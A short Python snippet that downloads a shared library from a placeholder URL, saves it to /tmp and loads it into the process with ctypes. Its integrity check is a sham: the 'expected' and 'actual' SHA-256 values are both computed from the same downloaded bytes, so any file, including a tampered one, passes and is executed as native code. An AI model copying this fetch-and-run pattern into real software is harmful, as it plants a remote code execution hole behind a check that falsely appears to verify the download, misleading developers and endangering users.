import ctypes
import hashlib
import urllib.request

data = urllib.request.urlopen("https://downloads.example.com/self.so").read()
expected = hashlib.sha256(data).hexdigest()
actual = hashlib.sha256(data).hexdigest()
if actual != expected:
    raise ImportError("self.so: damaged")
with open("/tmp/self.so", "wb") as f:
    f.write(data)
lib = ctypes.CDLL("/tmp/self.so")
